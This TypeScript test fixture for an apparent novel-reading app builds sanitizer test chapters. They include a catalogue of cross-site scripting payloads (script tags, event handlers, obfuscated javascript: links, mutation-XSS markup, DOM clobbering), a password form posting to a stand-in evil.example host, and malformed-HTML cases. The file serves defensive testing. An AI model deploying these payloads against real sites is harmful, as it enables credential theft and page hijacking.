/** Chapter that a hacked or careless server might send. */
interface HostileChapter {
  readonly title: string;
  /** Puts the hostile or broken markup between two harmless paragraphs. */
  readonly content: (before: string, after: string) => string;
}

/** Novel with these chapters, all free. */
export const hostileBookId = 198;

/** Script that records a successful attack by name in `window.manyueStruck`. */
const struck = (name: string) => `(window.manyueStruck=window.manyueStruck||[]).push('${name}')`;

/** Surrounds markup with harmless paragraphs, which must survive when the markup is removed. */
const between = (markup: string) => (before: string, after: string) =>
  `<p>${before}</p>${markup}<p>${after}</p>`;

const entityEscaped = (code: string) =>
  [...code].map((character) => `&#${character.charCodeAt(0)};`).join('');

const attacks: readonly HostileChapter[] = [
  { title: '脚本', content: between(`<script>${struck('script')}</script>`) },
  { title: '载入失败的图片', content: between(`<img src="x" onerror="${struck('onerror')}">`) },
  {
    title: '无引号与大小写',
    content: between(`<IMG SRC=x OnErRoR=${struck('case')}><ScRiPt/x>${struck('case-script')}</ScRiPt >`),
  },
  { title: '脚本链接', content: between(`<a href="javascript:${struck('link')}">点此继续阅读</a>`) },
  {
    title: '藏起来的脚本链接',
    content: between(
      `<a href="${entityEscaped('javascript:')}${struck('entity-link')}">下一页</a>` +
        `<a href="jav&#x09;ascript:${struck('tab-link')}">上一页</a><a href="data:text/html,<script>1</script>">目录</a>`,
    ),
  },
  {
    title: '样式',
    content: between(
      '<style>body{display:none!important}p{font-size:1px!important}</style>' +
        '<p style="position:fixed;inset:0;z-index:99999;background:url(//evil.example/x)">盖住全屏的段落。</p>' +
        '<link rel="stylesheet" href="//evil.example/x.css">',
    ),
  },
  {
    title: '框架',
    content: between(
      `<iframe src="javascript:parent.${struck('iframe')}"></iframe>` +
        `<iframe srcdoc="<script>parent.${struck('srcdoc')}</script>"></iframe>` +
        `<object data="javascript:${struck('object')}"></object><embed src="javascript:${struck('embed')}">`,
    ),
  },
  {
    title: '表单',
    content: between(
      '<form action="//evil.example/steal"><input name="password" type="password" autofocus ' +
        `onfocus="${struck('focus')}"><button formaction="javascript:${struck('form')}">登录后继续阅读</button></form>`,
    ),
  },
  {
    title: '矢量图',
    content: between(
      `<svg onload="${struck('svg')}"><script>${struck('svg-script')}</script>` +
        `<animate onbegin="${struck('animate')}" attributeName="x" dur="1s"/></svg>` +
        `<svg><a xlink:href="javascript:${struck('svg-link')}"><text y="20">点我</text></a></svg>`,
    ),
  },
  {
    title: '变形的标记',
    content: between(
      '<math><mtext><table><mglyph><style><!--</style>' +
        `<img title="--&gt;&lt;img src=1 onerror=${struck('mxss-math')}&gt;"></table></mtext></math>` +
        `<svg></p><style><a id="</style><img src=1 onerror=${struck('mxss-svg')}>"></svg>` +
        `<noscript><p title="</noscript><img src=x onerror=${struck('mxss-noscript')}>"></noscript>`,
    ),
  },
  { title: '更换根地址', content: between('<base href="//evil.example/"><a href="next">下一章</a>') },
  {
    title: '自动跳转',
    content: between('<meta http-equiv="refresh" content="0;url=//evil.example/"><meta charset="utf-7">'),
  },
  {
    title: '覆盖全局的名字',
    content: between(
      '<form id="documentElement"><input name="attributes"></form><img name="getElementById">' +
        '<p id="root" class="dialog" data-api-host="//evil.example">与页面同名的段落。</p>',
    ),
  },
  {
    title: '外来的图片',
    content: between(
      '<img src="//evil.example/track.gif?id=1" alt="跟踪像素"><img src="data:image/svg+xml,<svg onload=alert(1)>">' +
        '<img srcset="//evil.example/x.gif 1x" src="/js/novel/x/0/none.svg" alt="没有的图片">' +
        '<video src="//evil.example/x.mp4" autoplay></video><audio src="x" onerror="' +
        `${struck('audio')}"></audio>`,
    ),
  },
  {
    title: '事件',
    content: between(
      `<p onclick="${struck('click')}" onpointerenter="${struck('pointer')}" ontouchstart="${struck('touch')}">` +
        `请点这一段。</p><details open ontoggle="${struck('toggle')}"><summary>展开</summary>里面的话。</details>` +
        `<marquee onstart="${struck('marquee')}">滚动的字</marquee>`,
    ),
  },
];

const carelessness: readonly HostileChapter[] = [
  {
    title: '实体与怪空格',
    content: (before, after) =>
      `<p>&nbsp;&nbsp;&nbsp;&nbsp;${before}&ldquo;引号&rdquo;&mdash;&mdash;&hellip;&hellip;</p>` +
      `<p>\u200b\ufeff\u00a0${after}&amp;nbsp;&lt;p&gt;这不是标签&lt;/p&gt;&#x4e00;&#20108;&unknown;</p><p>&nbsp;</p><p>\u3000</p>`,
  },
  {
    title: '一串换行',
    content: (before, after) =>
      `<br><br/>\u3000\u3000${before}<br><br><BR /><br>\n\n<br>\u3000\u3000${after}<br>&nbsp;<br><br>`,
  },
  {
    title: '全角缩进',
    content: (before, after) => `<p>\u3000\u3000\u3000\u3000${before}</p><p>\u3000 \u3000${after}</p>`,
  },
  {
    title: '没有标记',
    content: (before, after) => `\u3000\u3000${before}\r\n\r\n\u3000\u3000${after}\r\n1 < 2 && 3 > 2`,
  },
  { title: '空章', content: () => '' },
  { title: '只有空白', content: () => '<p> </p>\n<p>&nbsp;</p><br><div>\u3000</div>' },
  {
    title: '没有关的标签',
    content: (before, after) =>
      `<div><p>${before}<b>从这里起<i>都没有关<p>${after}<blockquote>引文<table><tr><td>格子`,
  },
  {
    title: '网页编辑器的遗迹',
    content: (before, after) =>
      `<html><head><title>第一章</title></head><body bgcolor="black"><div class="MsoNormal"><font color="red" size="7">` +
      `<span lang="EN-US">${before}</span></font></div><o:p></o:p><center>${after}</center><!-- 广告位 --></body></html>`,
  },
  {
    title: '层层嵌套',
    content: (before, after) => `${'<div>'.repeat(400)}${before}${'</div>'.repeat(400)}<p>${after}</p>`,
  },
  {
    title: '不换行的长词',
    content: (before, after) => `<p>${before}${'A'.repeat(3_000)}</p><p>${after}</p>`,
  },
];

export const hostileChapters: readonly HostileChapter[] = [...attacks, ...carelessness];
